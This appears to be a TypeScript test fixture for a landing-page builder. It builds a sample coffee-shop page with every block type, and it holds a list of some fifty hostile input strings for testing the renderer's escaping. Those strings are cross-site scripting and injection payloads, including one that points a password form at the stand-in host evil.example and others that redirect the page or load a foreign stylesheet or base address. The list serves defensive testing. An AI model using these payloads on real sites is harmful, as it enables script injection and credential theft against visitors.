import type { Block, PageContent } from '#contract/landing-pages/content.ts';
import type { PageImage, RenderContext } from '../context.ts';
import { createBlock, createField } from '../new-blocks/create-block.ts';
import { createContent } from '../templates/create-content.ts';

/** Texts that try to become markup, addresses or styles, or to break what is around them. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '\'"><svg onload=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus x='",
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://example.com/" onclick="alert(1)">x</a>',
  '<p style="position:fixed;inset:0">x</p>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://example.com/x',
  'https://example.com/"onmouseover="alert(1)',
  'https://{{host}}/',
  '{{scheme}}:alert(1)',
  '#fff}</style><script>alert(1)</script>',
  'red;background:url(https://evil.example)',
  '\\3c script\\3e alert(1)',
  'expression(alert(1))',
  ']]><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '\0\u0001\u001B[31m',
  '\u202Egnp.exe\u2066\u2067',
  '\uD800<\uDFFF>',
  '{{',
  '}}{{{{',
  '{{{first_name}}}',
  '{{first_name|<script>alert(1)</script>}}',
  '{{first_name|" onmouseover="alert(1)}}',
  '{{constructor}}{{__proto__}}',
  '{{link:sale}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  'A'.repeat(2000),
  '<'.repeat(2000),
  '<b>'.repeat(500),
];

const IMAGE: PageImage = {
  width: 960,
  height: 640,
  sources: [480, 960].map((width) => ({
    width,
    url: `/images/7-1-abcdef0123456789/${width}.webp`,
    jpegUrl: `/images/7-1-abcdef0123456789/${width}.jpg`,
  })),
};

/** What rendering takes besides the content: image 1 exists. */
export const testContext = (changes: Partial<RenderContext> = {}): RenderContext => ({
  brand: {
    name: 'Bright Coffee',
    accent: { light: '#0e6b63', dark: '#3aa79b' },
    font: 'system',
    radius: 'small',
    logo: { url: '/images/7-logo-abcdef0123456789.svg', name: 'Bright' },
  },
  images: new Map([[1, IMAGE]]),
  formsWork: true,
  address: 'https://l.example.com/abc',
  ...changes,
});

const image = { imageId: 1, alt: 'A cup of coffee' };

/** A page with every block, which has no problems. */
export function fullContent(): PageContent {
  const content = createContent(
    { title: 'Everything', description: 'A page with every block' },
    { accent: '#0e6b63' },
    [...openingBlocks(), ...formBlocks(), ...closingBlocks()],
  );
  return { ...content, about: { ...content.about, image, showsLogo: true, measuresScroll: true } };
}

const openingBlocks = (): Block[] => [
  createBlock('Hero', 'hero', {
    title: 'Hello {{first_name|there}}',
    text: 'Two lines\nof text',
    image,
    button: { label: 'Shop', target: 'https://example.com/?name={{first_name|you}}' },
  }),
  createBlock('Text', 'text', {
    html: '<h2>News</h2><p>Dear {{first_name|friend}}, <strong>read</strong> <a href="https://example.com/news">this</a></p>',
  }),
  createBlock('Image', 'image', { image, target: 'https://example.com/image', caption: 'Our coffee' }),
  createBlock('Gallery', 'gallery', { images: [image, image] }),
  createBlock('Video', 'video', { address: 'https://youtu.be/abcdefghijk', title: 'Our shop', image }),
  createBlock('Button', 'button', { label: 'Call us', target: 'tel:+27821234567' }),
];

const formBlocks = (): Block[] => [
  createBlock('Form', 'form', {
    title: 'Order',
    text: 'Tell us what you like.',
    fields: [
      createField('name', 'Name', { isRequired: true, contactField: 'firstName' }),
      createField('about', 'About you', { kind: 'longText' }),
      createField('cups', 'Cups', { kind: 'number' }),
      createField('mail', 'Email', { kind: 'email' }),
      createField('number', 'Number', { kind: 'phone', contactField: 'number' }),
      createField('day', 'Day', { kind: 'date' }),
      createField('size', 'Size', { kind: 'choice', choices: ['Small', 'Large'] }),
      createField('extras', 'Extras', { kind: 'choices', choices: ['Milk', 'Sugar'] }),
      createField('news', 'Send me news', { kind: 'yes' }),
    ],
    submitLabel: 'Order',
    consent: 'You may call me.',
    groupId: 3,
    successText: 'Thank you, {{first_name|friend}}.',
    successTarget: 'https://example.com/thanks',
  }),
  createBlock('OptIn', 'join', {
    title: 'Join us',
    text: 'Two messages a month',
    consent: 'I agree to get messages.',
    confirmsBySms: true,
    confirmText: 'Open {{confirm}} to join.',
    submitLabel: 'Join',
    groupId: 3,
    successText: 'You have joined.',
  }),
  createBlock('OptOut', 'leave', {
    title: 'Leave us',
    text: 'One press is enough.',
    submitLabel: 'Stop messages',
    successText: 'Done.',
  }),
];

const closingBlocks = (): Block[] => [
  createBlock('Countdown', 'countdown', {
    title: 'Ends soon',
    until: '2030-12-31T18:00:00Z',
    endedText: 'It has ended.',
  }),
  createBlock('Map', 'map', { title: 'Where', address: '12 Kloof Street\nCape Town', image }),
  createBlock('Coupon', 'coupon', {
    title: '10% off',
    text: 'Show this code.',
    code: 'SAVE-{{code|10}}',
    barcode: 'code128',
    validUntil: '2030-12-31T18:00:00Z',
    terms: 'One use.',
  }),
  createBlock('Questions', 'questions', {
    title: 'Questions',
    items: [{ question: 'When?', answer: 'Now.\nAnd later.' }],
  }),
  createBlock('Social', 'social', {
    links: [{ network: 'facebook', target: 'https://facebook.com/example' }],
  }),
  createBlock('Divider', 'divider'),
  createBlock('Legal', 'legal', {
    html: '<p>Terms. Write to <a href="mailto:a@example.com">us</a>.</p>',
  }),
  createBlock('Links', 'links', {
    title: 'Links',
    links: [{ label: 'Menu', target: 'https://example.com/menu' }],
  }),
  createBlock('Columns', 'columns', {
    first: [createBlock('Text', 'left', { html: '<p>Left</p>' })],
    second: [createBlock('Button', 'right', { label: 'Right', target: 'sms:43366?body=Hi {{first_name}}' })],
  }),
];
